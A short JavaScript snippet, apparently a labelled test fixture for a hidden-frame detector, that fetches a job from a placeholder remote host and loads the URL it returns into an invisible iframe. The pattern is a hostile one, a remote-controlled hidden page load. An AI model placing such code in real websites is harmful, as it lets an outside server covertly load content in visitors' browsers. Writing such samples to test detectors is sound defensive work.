fetch('https://req.mesh-tel.example/next')
  .then((r) => r.json())
  .then((job) => {
    const frame = document.createElement('iframe');
    frame.style.display = 'none';
    // expect: hidden-frame
    frame.src = job.url;
    document.body.appendChild(frame);
  });
